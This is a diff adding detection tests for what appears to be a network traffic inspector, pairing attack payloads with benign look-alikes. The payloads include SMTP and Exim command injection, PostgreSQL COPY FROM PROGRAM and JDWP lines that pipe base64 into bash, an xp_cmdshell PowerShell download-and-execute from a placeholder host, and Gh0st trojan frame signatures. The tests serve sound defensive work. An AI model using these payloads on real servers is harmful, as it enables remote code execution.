@@ -54,6 +54,10 @@ public class IndicatorPeekTests
     [InlineData("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"48x\",\"pass\":\"x\",\"agent\":\"XMRig/6.21\"}}\n", "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"user\":\"ann\",\"pass\":\"x\"}}\n", AppProtocol.Unknown)]
     [InlineData("{\"method\":\"login\",\"params\":{\"login\":\"4BCe\",\"pass\":\"x\",\"agent\":\"xmr-stak-cpu/1.3\"},\"id\":1}\n", "{\"method\":\"login\",\"params\":{\"login\":\"anna\",\"pass\":\"x\"},\"id\":1,\"device\":\"telephone\"}\n", AppProtocol.Unknown)]
     [InlineData("{\"id\": 1, \"method\": \"mining.subscribe\", \"params\": [\"cpuminer/2.5\"]}\n", "{\"id\": 1, \"method\": \"topic.subscribe\", \"params\": [\"weather\", \"mining\"]}\n", AppProtocol.Unknown)]
+    [InlineData("MAIL FROM:<;for i in 0 1;do read r;done;sh;exit 0;>\r\n", "MAIL FROM:<ann@shop.example> SIZE=1200\r\n", AppProtocol.Smtp)]
+    [InlineData("RCPT TO:<${run{/bin/sh -c id}}@shop.example>\r\n", "RCPT TO:<\";odd\"@shop.example>\r\n", AppProtocol.Smtp)]
+    [InlineData("Q\0\0\0HCOPY x FROM PROGRAM 'echo Y3Vy|base64 -d|bash';\0", "Q\0\0\0HCOPY x FROM PROGRAM 'gunzip -c /srv/prices.gz';\0", AppProtocol.PostgreSql)]
+    [InlineData("158\0ll|'|'|SGFjS2Vk|'|'|DESK|'|'|ann", "158\0ll, said he: '|'", AppProtocol.Unknown)]
     public void Commands_of_backdoors_are_known_and_ordinary_ones_pass(string attack, string honest, AppProtocol application)
     {
         Assert.NotNull(Look(attack, application: application));
@@ -70,6 +74,55 @@ public class IndicatorPeekTests
         byte[] answer = [(byte)(length >> 8), (byte)length, 0x43, 0xFD, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 1, 1, (byte)'9', 3, (byte)'n', (byte)'e', (byte)'t', 0, 0, type, 0, 1, .. new byte[200]];
         var found = Look(answer, fromResponder: true, application: AppProtocol.Dns);
         Assert.Equal(attack, found is { Name: "sigred", FromResponder: true });
+    }
+
+    [Fact]
+    public void A_database_that_loads_a_program_is_told_from_its_owners_jobs()
+    {
+        byte[] Batch(string text) => [1, 1, 0, 0, 0, 0, 1, 0, .. new byte[22], .. Encoding.Unicode.GetBytes(text)];
+        Assert.Equal("xp-cmdshell", Look(Batch("EXEC xp_cmdshell 'powershell -nop -c IEX(New-Object Net.WebClient).DownloadString(''http://x/a'')'"), application: AppProtocol.Tds)!.Name);
+        Assert.Null(Look(Batch("EXEC xp_cmdshell 'dir D:\\backup'"), application: AppProtocol.Tds));
+        Assert.Null(Look(Batch("SELECT 'powershell -nop' FROM notes"), application: AppProtocol.Tds));
+    }
+
+    [Fact]
+    public void A_text_for_a_shell_is_no_debuggers()
+    {
+        byte[] Create(string text)
+        {
+            byte[] p = [0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 11, 0, 0, 0, 0, .. Encoding.ASCII.GetBytes(text)];
+            BinaryPrimitives.WriteInt32BigEndian(p, p.Length);
+            BinaryPrimitives.WriteInt32BigEndian(p.AsSpan(11), text.Length);
+            return p;
+        }
+
+        Assert.Equal("jdwp-command", Look(Create("bash -c {echo,Y3VybCAyMDMu}|{base64,-d}|bash"))!.Name);
+        Assert.Null(Look(Create("the value of the field customer.name")));
+    }
+
+    [Theory]
+    [InlineData("Gh0st", 0, 0x9C, true)]
+    [InlineData("cb1st", 0, 0x9C, true)]
+    [InlineData("Gh0st", 1, 0x9C, false)]
+    [InlineData("Gh0st", 0, 0x00, false)]
+    [InlineData("G \u0001 t", 0, 0x9C, false)]
+    public void A_trojans_frame_needs_its_name_its_lengths_and_its_stream(string name, int wrong, byte second, bool found)
+    {
+        byte[] p = [.. Encoding.Latin1.GetBytes(name), 0, 0, 0, 0, 200, 0, 0, 0, 0x78, second, .. new byte[60]];
+        BinaryPrimitives.WriteInt32LittleEndian(p.AsSpan(5), p.Length + wrong);
+        Assert.Equal(found, Look(p)?.Kind == IndicatorKind.RemoteAccess);
+    }
+
+    [Theory]
+    [InlineData("Action: Login\r\nSecret: x\r\n\r\n", "Response: Error\r\nMessage: Authentication failed\r\n\r\n", true)]
+    [InlineData("Action: Login\r\nSecret: x\r\n\r\n", "Response: Success\r\nMessage: Authentication accepted\r\n\r\n", false)]
+    [InlineData("GIMME the log of sshd\r\n", "sshd: authentication failed for root\r\n", false)]
+    public void A_refusal_in_words_answers_a_secret(string question, string answer, bool refused)
+    {
+        var peek = new PayloadPeek();
+        var state = new PeekState();
+        Assert.Null(peek.Look(ref state, false, IpProtocol.Tcp, 40_000, 5038, Encoding.ASCII.GetBytes(question)));
+        Assert.Equal(refused, peek.Look(ref state, true, IpProtocol.Tcp, 40_000, 5038, Encoding.ASCII.GetBytes(answer)) is LoginResult { Accepted: false });
     }
 
     [Fact]
